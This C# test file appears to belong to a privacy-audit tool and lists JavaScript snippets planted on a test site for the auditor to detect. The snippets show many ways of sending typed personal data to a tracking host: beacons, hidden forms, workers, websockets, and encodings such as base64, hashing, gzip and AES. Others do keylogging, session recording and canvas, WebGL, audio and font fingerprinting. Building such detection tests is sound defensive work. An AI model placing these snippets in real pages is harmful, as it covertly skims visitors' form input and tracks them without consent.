using Candor.Audit.Findings;

namespace Candor.Tests.Audit.Live;

/// <summary>What is planted on the site that the auditor has to find.</summary>
static class Plants
{
    /// <summary>Each way in which a message can travel.</summary>
    public static IReadOnlyList<Plant> Transports { get; } =
    [
        new("image", RuleName.PersonalData, "typed(v => get('e=' + E(v)));"),
        new("fetch-json", RuleName.PersonalData, "typed(v => fetch(T + '/p', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ a: { b: v } }) }));"),
        new("fetch-form", RuleName.PersonalData, "typed(v => fetch(T + '/p', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ x: v }) }));"),
        new("fetch-parts", RuleName.PersonalData, "typed(v => { const d = new FormData(); d.append('x', v); fetch(T + '/p', { method: 'POST', mode: 'no-cors', body: d }); });"),
        new("xhr", RuleName.PersonalData, "typed(v => { const x = new XMLHttpRequest(); x.open('POST', T + '/p'); x.send('v=' + v); });"),
        new("keepalive", RuleName.PersonalData, "typed(v => fetch(T + '/p', { method: 'POST', keepalive: true, mode: 'no-cors', body: v }));"),
        new("beacon", RuleName.PersonalData, "typed(v => navigator.sendBeacon(T + '/p', 'mail=' + v));"),
        new("beacon-blob", RuleName.PersonalData, "typed(v => navigator.sendBeacon(T + '/p', new Blob([JSON.stringify([v])], { type: 'text/plain' })));"),
        new("beacon-bytes", RuleName.PersonalData, "typed(v => navigator.sendBeacon(T + '/p', bytes(v)));"),
        new("hidden-form", RuleName.PersonalData, """
            typed(v => { const f = document.createElement('iframe'); f.name = 'hf'; f.hidden = true; document.body.append(f);
              const o = document.createElement('form'); o.action = T + '/p'; o.method = 'POST'; o.target = 'hf'; o.innerHTML = '<input name=z>'; o.hidden = true; document.body.append(o); o.z.value = v; o.submit(); });
            """),
        new("socket", RuleName.PersonalData, "const s = new WebSocket('wss://' + H + '/ws'); typed(v => s.send(JSON.stringify({ v })));"),
        new("socket-bytes", RuleName.PersonalData, "const s = new WebSocket('wss://' + H + '/ws'); typed(v => s.send(bytes(v)));"),
        new("worker", RuleName.PersonalData, "const w = new Worker(URL.createObjectURL(new Blob([`onmessage = e => fetch('${T}/p?v=' + encodeURIComponent(e.data), { mode: 'no-cors' })`]))); typed(v => w.postMessage(v));"),
        new("shared-worker", RuleName.PersonalData, "const w = new SharedWorker(URL.createObjectURL(new Blob([`onconnect = c => c.ports[0].onmessage = e => fetch('${T}/p?v=' + encodeURIComponent(e.data), { mode: 'no-cors' })`]))); w.port.start(); typed(v => w.port.postMessage(v));"),
        new("frame-message", RuleName.PersonalData, "const f = document.createElement('iframe'); f.src = T + '/frame'; document.body.append(f); typed(v => f.contentWindow.postMessage(v, '*'));"),
        new("style", RuleName.PersonalData, "typed(v => { document.getElementById('spare').style.background = `url('${T}/p?v=${E(v)}')`; });"),
        new("script", RuleName.PersonalData, "typed(v => { const s = document.createElement('script'); s.src = T + '/p?cb=x&v=' + E(v); document.head.append(s); });"),
        new("prefetch", RuleName.PersonalData, "typed(v => { const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = T + '/p?v=' + E(v); document.head.append(l); });"),
        new("path", RuleName.PersonalData, "typed(v => { new Image().src = T + '/u/' + E(v) + '/x.gif'; });"),
        new("late", RuleName.PersonalData, "typed(v => setTimeout(() => get('v=' + E(v)), 2500));"),
        new("leaving", RuleName.PersonalData, "let k = ''; typed(v => { k = v; }); addEventListener('pagehide', () => navigator.sendBeacon(T + '/p', k));"),
        new("hidden", RuleName.PersonalData, "let k = ''; typed(v => { k = v; }); document.addEventListener('visibilitychange', () => { if (document.visibilityState === 'hidden') navigator.sendBeacon(T + '/p', k); });"),
    ];

    /// <summary>Each way in which a value can be written.</summary>
    public static IReadOnlyList<Plant> Encodings { get; } =
    [
        new("base64", RuleName.PersonalData, "typed(v => get('x=' + E(btoa(v))));"),
        new("base64url", RuleName.PersonalData, "typed(v => get('x=' + btoa('?>' + v).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=/g, '')));"),
        new("base64-shifted", RuleName.PersonalData, "typed(v => get('x=' + E(btoa('\\u0001\\u0002' + v + '\\u0003'))));"),
        new("base64-twice", RuleName.PersonalData, "typed(v => get('x=' + E(btoa(btoa(v)))));"),
        new("hex", RuleName.PersonalData, "typed(v => get('x=' + hex(bytes(v))));"),
        new("percent-twice", RuleName.PersonalData, "typed(v => get('x=' + E(E(v))));"),
        new("upper", RuleName.PersonalData, "typed(v => get('x=' + E(v.toUpperCase())));"),
        new("reversed", RuleName.PersonalData, "typed(v => get('x=' + E([...v].reverse().join(''))));"),
        new("rot13", RuleName.PersonalData, "typed(v => get('x=' + E(v.replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 84) % 26 + 97)))));"),
        new("codes", RuleName.PersonalData, "typed(v => get('x=' + [...v].map(c => c.charCodeAt(0)).join(',')));"),
        new("sha1", RuleName.PersonalData, "typed(async v => get('x=' + hex(await sha('SHA-1', v))));"),
        new("sha256", RuleName.PersonalData, "typed(async v => get('x=' + hex(await sha('SHA-256', v))));"),
        new("sha256-upper", RuleName.PersonalData, "typed(async v => get('x=' + hex(await sha('SHA-256', ' ' + v.toUpperCase() + ' '.trim())).toUpperCase() + '&y=' + hex(await sha('SHA-256', v.toUpperCase())).toUpperCase()));"),
        new("sha256-base64", RuleName.PersonalData, "typed(async v => get('x=' + E(b64(await sha('SHA-256', v)))));"),
        new("sha512", RuleName.PersonalData, "typed(async v => get('x=' + hex(await sha('SHA-512', v))));"),
        new("sha-of-sha", RuleName.PersonalData, "typed(async v => get('x=' + hex(await sha('SHA-256', hex(await sha('SHA-1', v))))));"),
        new("sha-cut", RuleName.PersonalData, "typed(async v => get('x=' + hex(await sha('SHA-256', v)).slice(0, 20)));"),
        new("json-in-json", RuleName.PersonalData, "typed(v => navigator.sendBeacon(T + '/p', JSON.stringify({ d: JSON.stringify({ d: JSON.stringify({ v }) }) })));"),
        new("gzip", RuleName.PersonalData, "typed(async v => fetch(T + '/p', { method: 'POST', mode: 'no-cors', body: await pack('gzip', JSON.stringify({ v })) }));"),
        new("deflate", RuleName.PersonalData, "typed(async v => fetch(T + '/p', { method: 'POST', mode: 'no-cors', body: await pack('deflate', JSON.stringify({ v })) }));"),
        new("gzip-base64", RuleName.PersonalData, "typed(async v => get('x=' + E(b64(await pack('gzip', JSON.stringify({ v }))))));"),
        new("split", RuleName.PersonalData, "typed(v => get('a=' + v.slice(0, 6) + '&b=' + v.slice(6, 12) + '&c=' + E(v.slice(12))));"),
        new("referer", RuleName.PersonalData, "typed(v => { history.replaceState(0, '', '?q=' + E(v)); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = T + '/p'; setTimeout(() => history.replaceState(0, '', location.pathname), 100); });"),
    ];

    /// <summary>Other kinds of fields, and what is no field.</summary>
    public static IReadOnlyList<Plant> Fields { get; } =
    [
        new("text-area", RuleName.FormContent, "field('message', 'change', v => get('x=' + E(btoa(v))));"),
        new("select", RuleName.FormContent, "field('topic', 'change', v => get('topic=' + E(v)));"),
        new("editable", RuleName.FormContent, "field('editable', 'blur', v => get('x=' + E(v)));"),
        new("shadow", RuleName.FormContent, "document.getElementById('shadow').shadowRoot.querySelector('input').addEventListener('blur', e => get('x=' + E(e.target.value)));"),
        new("phone", RuleName.PersonalData, "field('phone', 'blur', async v => get('x=' + hex(await sha('SHA-256', v.replace('+', '')))));"),
        new("password", RuleName.PersonalData, "field('password', 'blur', v => get('x=' + E(btoa(v))));"),
        new("in-frame", RuleName.FormContent, "const f = document.createElement('iframe'); f.src = T + '/form'; document.body.append(f);"),
        new("each-key", RuleName.KeyLogging, "document.addEventListener('keydown', e => { if (e.target.id === 'name') get('k=' + E(e.key) + '&t=' + performance.now()); });"),
        new("growing", RuleName.KeyLogging, "field('name', 'input', v => get('v=' + E(v)));"),
        new("button", RuleName.ButtonText, "document.addEventListener('click', e => { if (e.target.closest('button')) get('label=' + E(e.target.textContent)); });"),
        new("call", RuleName.ButtonText, "document.addEventListener('click', e => { const a = e.target.closest('a'); if (a) navigator.sendBeacon(T + '/p', JSON.stringify({ what: a.textContent })); });"),
        new("sealed", RuleName.Opaque, "typed(async v => { const k = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, false, ['encrypt']); fetch(T + '/p', { method: 'POST', mode: 'no-cors', body: await crypto.subtle.encrypt({ name: 'AES-GCM', iv: new Uint8Array(12) }, k, bytes(v.repeat(4))) }); });"),
        new("cookie", RuleName.ThirdPartyCookie, "new Image().src = T + '/cookie.gif';"),
    ];

    /// <summary>What a script does in the page, whoever it is.</summary>
    public static IReadOnlyList<Plant> Behaviours { get; } =
    [
        new("canvas", RuleName.CanvasFingerprinting, "const c = document.createElement('canvas'); c.width = 240; c.height = 60; const x = c.getContext('2d'); x.fillStyle = '#f60'; x.fillRect(9, 9, 60, 20); x.fillText('Cwm fjordbank glyphs vext quiz', 2, 15); get('f=' + c.toDataURL().length);"),
        new("canvas-pixels", RuleName.CanvasFingerprinting, "const c = document.createElement('canvas'); c.width = c.height = 100; const x = c.getContext('2d'); x.fillText('Sphinx of black quartz', 2, 15); get('f=' + x.getImageData(0, 0, 100, 100).data[40]);"),
        new("fonts", RuleName.CanvasFontFingerprinting, "const x = document.createElement('canvas').getContext('2d'); let w = 0; for (let i = 0; i < 51; i++) { x.font = '72px font' + i + ', monospace'; w += x.measureText('mmmmmmmmmmlli').width; } get('w=' + w);"),
        new("webgl", RuleName.WebGlFingerprinting, "const g = document.createElement('canvas').getContext('webgl') ?? Object.create(WebGLRenderingContext.prototype); for (const p of [0x9245, 0x9246, 3379, 3386, 34076, 34024, 36347]) try { g.getParameter(p); } catch { } get('g=1');"),
        new("audio", RuleName.AudioFingerprinting, "const a = new OfflineAudioContext(1, 4410, 44100), o = a.createOscillator(), c = a.createDynamicsCompressor(); o.connect(c); c.connect(a.destination); o.start(); a.startRendering(); get('a=1');"),
        new("film", RuleName.SessionRecorder, """
            const q = []; const push = k => e => q.push([k, e.clientX ?? 0, e.clientY ?? 0, Date.now()]);
            for (const t of ['mousemove', 'click', 'scroll']) addEventListener(t, push(t), true);
            for (const t of ['input', 'keydown']) document.addEventListener(t, push(t), true);
            new MutationObserver(m => q.push(['m', m.length])).observe(document, { subtree: true, childList: true, attributes: true });
            const send = () => fetch(T + '/p', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ q: q.splice(0), p: document.documentElement.outerHTML.slice(0, 3000) }) }); setTimeout(send, 400);
            """),
    ];

    public static IEnumerable<Plant> All => [.. Transports, .. Encodings, .. Fields, .. Behaviours];
}
